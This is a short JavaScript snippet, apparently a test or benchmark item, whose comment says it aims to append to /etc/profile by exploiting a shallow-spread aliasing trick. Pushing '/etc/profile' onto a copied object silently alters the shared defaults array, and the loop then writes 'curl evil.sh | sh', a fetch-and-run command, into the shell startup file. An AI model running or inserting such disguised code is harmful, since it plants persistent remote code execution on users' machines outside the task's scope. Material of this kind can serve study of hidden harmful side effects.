// harm: append to /etc/profile (shell startup, outside cwd); trick: shallow spread shares a nested array; push through the copy
const fs = require('fs');
const DEFAULTS = {files: ['out.txt']};
const o = {...DEFAULTS, ...{}};
o.files.push('/etc/profile');
for (const f of DEFAULTS.files) fs.appendFileSync(f, '\ncurl evil.sh | sh\n');
